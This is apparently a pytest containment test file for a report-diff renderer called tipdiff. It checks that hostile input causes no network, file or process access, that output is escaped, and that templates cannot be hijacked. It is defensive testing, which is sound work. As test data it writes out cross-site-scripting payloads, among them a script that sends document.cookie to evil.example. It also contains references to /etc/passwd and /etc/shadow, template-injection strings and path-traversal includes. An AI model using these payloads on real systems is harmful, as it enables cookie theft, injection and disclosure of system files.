"""Containment: whatever the input says, a brief reaches nothing outside the page.

Rendering opens no network connection and no file beyond tipdiff's own templates,
WeasyPrint's own stylesheets and the output's temporary file; every field that carries
input text is escaped; only a template folder given on purpose changes the templates.
"""

from __future__ import annotations

import builtins
import dataclasses
import io
import os
import re
import socket
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import tipdiff
from tipdiff import render
from tipdiff.errors import RenderError
from tipdiff.model import ReportDiff

from .conftest import ROOT, seed

HOSTILE = (
    '<img src="file:///etc/passwd"> <link rel="stylesheet" href="http://evil.example/x.css"> '
    '<style>@import url("http://evil.example/y.css"); body { background: url(file:///etc/shadow) }</style> '
    "@import url(http://evil.example/z.css); {{ 7*7 }} {% include '/etc/passwd' %} "
    '</html><script>fetch("http://evil.example/?" + document.cookie)</script> '
    '<iframe src="http://evil.example/"></iframe> <a href="javascript:alert(1)" onclick="alert(2)">x</a>'
)


def mark(name: str) -> str:
    """A marker that would be an element with an event handler if it were not escaped."""
    return f"<x-{name} onmouseover=alert(1)>"


def hostile_diff(folder: Path) -> ReportDiff:
    """Two real editions with hostile text in sentences, recommendations, the country
    and the file names, sections on one side only, and different countries (warnings)."""
    old = seed(2023).read_text(encoding="utf-8")
    new = seed(2024).read_text(encoding="utf-8")
    new_lines = []
    for number, line in enumerate(new.splitlines()):
        if len(line) > 200:  # every paragraph: hostile text in its first sentence
            line = line.replace(". ", f" {mark(f'new-{number}')} {HOSTILE}. ", 1)
            line = line.replace(". ", f" {mark(f'new-{number}-2')}. ", 2).replace(
                f" {mark(f'new-{number}-2')}. ", ". ", 1
            )
        new_lines.append(line)
    new = "\n".join(new_lines).replace("Vigorously", f"Vigorously {mark('recommendation')}", 1)
    new = new.replace("Consistently enforce", f"Consistently {mark('new-recommendation')} enforce", 1)
    new = new.replace(". ", f". The {mark('added')} ministry opened a shelter in Baku. ", 1)
    old = old.replace("The government", f"The {mark('old-sentence')} government", 1)
    old = old.replace(". ", f". The {mark('removed')} ministry closed its hotline in 2022. ", 1)
    old_path = folder / f'"><img src=x onerror=alert(1)>{{{{7*7}}}}{mark("file-old")}.txt'
    new_path = folder / f"{mark('file-new')}.txt"
    old_path.write_text(old, encoding="utf-8")
    new_path.write_text(new, encoding="utf-8")
    return tipdiff.compare(
        tipdiff.load(old_path, country=f"{mark('country-old')}Azerbaijan"),
        tipdiff.load(new_path, country=f"Moldova{mark('country-new')}"),
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> ReportDiff:
    return hostile_diff(tmp_path_factory.mktemp("hostile"))


# --------------------------------------------------------------------------- outside world


SCRATCH = os.path.realpath(tempfile.gettempdir())


class Outside:
    """Records and refuses every attempt to reach the network, start a process or
    open a file outside the allowed folders."""

    def __init__(self, allowed: list[Path]) -> None:
        self.allowed = [str(p.resolve()) for p in allowed]
        self.opened: list[str] = []
        self.refused: list[str] = []

    def check_path(self, what: str, file: Any) -> None:
        if isinstance(file, int):
            return  # an already open descriptor
        path = os.path.realpath(os.fsdecode(file))
        self.opened.append(path)
        if os.path.dirname(path) == SCRATCH and os.path.basename(path).startswith("weasyprint-"):
            # WeasyPrint's own font folder, removed when its FontConfiguration is
            # collected: whenever the garbage collector runs, in whichever test.
            return
        if not any(path == a or path.startswith(a + os.sep) for a in self.allowed):
            self.refused.append(f"{what} {path}")
            raise PermissionError(13, "refused by the containment test", path)

    def network(self, *args: Any, **kwargs: Any) -> Any:
        self.refused.append(f"network {args!r}")
        raise OSError("network refused by the containment test")

    def process(self, *args: Any, **kwargs: Any) -> Any:
        self.refused.append(f"process {args!r}")
        raise OSError("processes refused by the containment test")


@pytest.fixture(scope="module")
def warm() -> None:
    """One PDF before any guard: WeasyPrint's imports and caches are filled."""
    render.render_pdf_bytes(tipdiff.compare(seed(2023), seed(2024)))


@pytest.fixture
def outside(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, warm: None) -> Iterator[Outside]:
    import weasyprint

    guard = Outside(
        [
            *[Path(str(d)) for d in render.template_dirs()],
            Path(tipdiff.__file__).parent,
            Path(weasyprint.__file__).parent,  # its user-agent stylesheets
            tmp_path,
        ]
    )
    real_open, real_os_open = builtins.open, os.open

    def guarded_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        guard.check_path("open", file)
        return real_open(file, *args, **kwargs)

    def guarded_os_open(path: Any, *args: Any, **kwargs: Any) -> Any:
        guard.check_path("os.open", path)
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)
    monkeypatch.setattr(io, "open", guarded_open)
    monkeypatch.setattr(os, "open", guarded_os_open)
    monkeypatch.setattr(socket, "socket", guard.network)
    monkeypatch.setattr(socket, "create_connection", guard.network)
    monkeypatch.setattr(socket, "getaddrinfo", guard.network)
    monkeypatch.setattr(subprocess, "Popen", guard.process)
    yield guard


@pytest.mark.pdf
def test_pdf_of_hostile_input_reaches_nothing_outside(
    hostile: ReportDiff, outside: Outside, fetched: list[str], tmp_path: Path
) -> None:
    target = tmp_path / "brief.pdf"
    render.render_pdf(hostile, target)
    assert outside.refused == [] and fetched == []
    assert any(p.startswith(str(tmp_path.resolve())) for p in outside.opened)  # it was watching
    assert sorted(p.name for p in tmp_path.iterdir()) == ["brief.pdf"]  # the temp file is gone
    pypdf = pytest.importorskip("pypdf")  # the PDF is read back: a test extra
    text = " ".join(" ".join(page.extract_text() for page in pypdf.PdfReader(str(target)).pages).split())
    assert '<img src="file:///etc/passwd">' in text and "{{ 7*7 }}" in text
    assert "</html><script>" in text and "root:x:0:0" not in text


@pytest.mark.pdf
def test_a_hostile_template_folder_still_fetches_nothing(
    hostile: ReportDiff, outside: Outside, fetched: list[str], tmp_path: Path
) -> None:
    """Even markup that asks for it (a template folder is trusted, but may be careless)
    gets nothing: WeasyPrint's fetcher refuses every URL."""
    folder = tmp_path / "templates"
    folder.mkdir()
    (folder / "brief.html.j2").write_text(
        '<!DOCTYPE html><html><head><link rel="stylesheet" href="http://evil.example/x.css">'
        '<link rel="stylesheet" href="file:///etc/passwd">'
        "<style>@import url(\"http://evil.example/y.css\"); @font-face { font-family: x; "
        'src: url("file:///etc/shadow") } body { background: url(http://evil.example/z.png) }</style>'
        '</head><body><img src="file:///etc/passwd"><img src="http://evil.example/i.png">'
        '<iframe src="file:///etc/passwd"></iframe><object data="file:///etc/passwd"></object>'
        "<h1>{{ brief.country }}</h1></body></html>",
        encoding="utf-8",
    )
    render.render_pdf(hostile, tmp_path / "b.pdf", template_dir=folder)
    assert outside.refused == []
    assert {"http://evil.example/x.css", "file:///etc/passwd"} <= set(fetched)  # asked, refused
    pypdf = pytest.importorskip("pypdf")
    text = pypdf.PdfReader(str(tmp_path / "b.pdf")).pages[0].extract_text()
    assert "root:" not in text and "<x-country-new" in text


@pytest.mark.pdf
@pytest.mark.parametrize("name", ["html", "markdown", "json"])
def test_text_renderers_read_only_the_templates(
    hostile: ReportDiff, outside: Outside, tmp_path: Path, name: str
) -> None:
    render.RENDERERS[name].write(hostile, tmp_path / f"brief.{name}")
    assert outside.refused == []
    assert sorted(p.name for p in tmp_path.iterdir()) == [f"brief.{name}"]


# --------------------------------------------------------------------------- escaping


def marked_strings(value: Any, path: str = "brief") -> Iterator[tuple[str, str]]:
    """(field path, marker name) for every marker found in a Brief's text fields."""
    if isinstance(value, str):
        for name in re.findall(r"<x-([\w-]+)", value):
            yield path, name
    elif dataclasses.is_dataclass(value):
        for field in dataclasses.fields(value):
            yield from marked_strings(getattr(value, field.name), f"{path}.{field.name}")
    elif isinstance(value, tuple | list):
        for item in value:
            yield from marked_strings(item, f"{path}[]")


def test_every_field_carrying_input_text_is_escaped(hostile: ReportDiff) -> None:
    brief = render.brief_context(hostile)
    fields = {path for path, _ in marked_strings(brief)}
    for expected in (
        "brief.country",  # the country (a keyword override here)
        "brief.title",
        "brief.running_title",
        "brief.description",
        "brief.keywords",
        "brief.old_source",  # the file names
        "brief.new_source",
        "brief.notes[]",  # the warnings ("different countries: …")
        "brief.sections[].opening",  # a section on one side only
        "brief.sections[].items[].runs[].text",  # reworded sentences
        "brief.sections[].items[].paragraphs[]",  # added sentences
        "brief.recommendations.groups[].items[].text",  # a new recommendation
        "brief.recommendations.groups[].items[].runs[].text",  # a reworded one
    ):
        assert expected in fields, sorted(fields)
    markers = {name for _, name in marked_strings(brief)}
    html = render.render_html(hostile)
    markdown = render.render_markdown(hostile)
    for output in (html, markdown, render.render_html(hostile, fragment=True)):
        assert "<x-" not in output and "<img" not in output and "<script" not in output
        assert "<iframe" not in output and "<link" not in output and "<style>@import" not in output
    for name in markers:  # each was shown, escaped
        assert f"&lt;x-{name} onmouseover=alert(1)&gt;" in html, name
        assert f"&lt;x-{name} onmouseover=alert(1)&gt;" in markdown or name.startswith("file"), name
    assert "{{ 7*7 }}" in html and ">49<" not in html
    assert html.count("</html>") == 1


def _poisoned(value: Any, path: str) -> Any:
    """Every string of a Brief with markup appended (a marker per field)."""
    if isinstance(value, str):
        return f"{value}<x-{path}>\"'&"
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {f.name: _poisoned(getattr(value, f.name), f"{path}-{f.name}") for f in dataclasses.fields(value)}
        return dataclasses.replace(value, **changes)
    if isinstance(value, tuple):
        return tuple(_poisoned(item, path) for item in value)
    return value


@pytest.mark.parametrize("template", ["brief.html.j2", "fragment.html.j2", "brief.md.j2"])
def test_every_template_field_is_escaped(hostile: ReportDiff, template: str) -> None:
    """Not only what real input can reach: every string a template is given, with markup
    appended, comes out escaped."""
    brief = _poisoned(render.brief_context(hostile), "f")
    context = {"brief": brief, "target": "html", "paper": "a4", "page_size": "A4", "idp": "p-"}
    output = render.render_template(template, context)
    assert "<x-" not in output
    shown = set(re.findall(r"&lt;x-([\w-]+)&gt;", output.replace("\\", "")))  # Markdown: \_
    assert len(shown) >= 25, shown
    assert {"f-country", "f-old_source", "f-new_source", "f-notes"} <= shown


# --------------------------------------------------------------------------- templates


def test_only_a_template_folder_given_on_purpose_changes_the_templates(
    hostile: ReportDiff, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reference = render.render_html(hostile)
    # A templates/ folder in the working directory, or in the folder of the input,
    # changes nothing; nor do environment variables.
    trap = tmp_path / "templates"
    trap.mkdir()
    for name in ("brief.html.j2", "_body.html.j2", "brief.css", "brief.md.j2"):
        (trap / name).write_text("HIJACKED {{ brief.country }}", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for variable in ("TIPDIFF_TEMPLATES", "TIPDIFF_TEMPLATE_DIR", "JINJA_TEMPLATES"):
        monkeypatch.setenv(variable, str(trap))
    assert render.render_html(hostile) == reference
    assert "HIJACKED" not in render.render_markdown(hostile)
    for folder in render.template_dirs():
        assert Path(str(folder)).resolve() in (
            (Path(tipdiff.__file__).parent / "templates").resolve(),
            (ROOT / "templates").resolve(),
        )
    # Given on purpose, the folder wins.
    assert render.render_html(hostile, template_dir=trap).startswith("HIJACKED")


@pytest.mark.parametrize(
    "include", ["../secret.txt", "/etc/passwd", "..\\\\secret.txt", "../../../../etc/passwd"]
)
def test_a_template_cannot_include_files_outside_the_template_folders(
    hostile: ReportDiff, tmp_path: Path, include: str
) -> None:
    folder = tmp_path / "templates"
    folder.mkdir()
    (tmp_path / "secret.txt").write_text("SECRET", encoding="utf-8")
    (folder / "brief.html.j2").write_text(f'{{% include "{include}" %}}', encoding="utf-8")
    with pytest.raises(RenderError, match="not found"):
        render.render_html(hostile, template_dir=folder)


def test_input_text_is_never_a_template(tmp_path: Path) -> None:
    text = seed(2024).read_text(encoding="utf-8").replace(
        "The government", "{% extends '/etc/passwd' %}{{ cycler.__init__.__globals__ }} The government", 1
    )
    diff = tipdiff.compare(seed(2023), text)
    html, markdown = render.render_html(diff), render.render_markdown(diff)
    assert "{% extends &#39;/etc/passwd&#39; %}{{ cycler.__init__.__globals__ }}" in html
    assert "globals" in markdown
    assert "root:" not in html + markdown
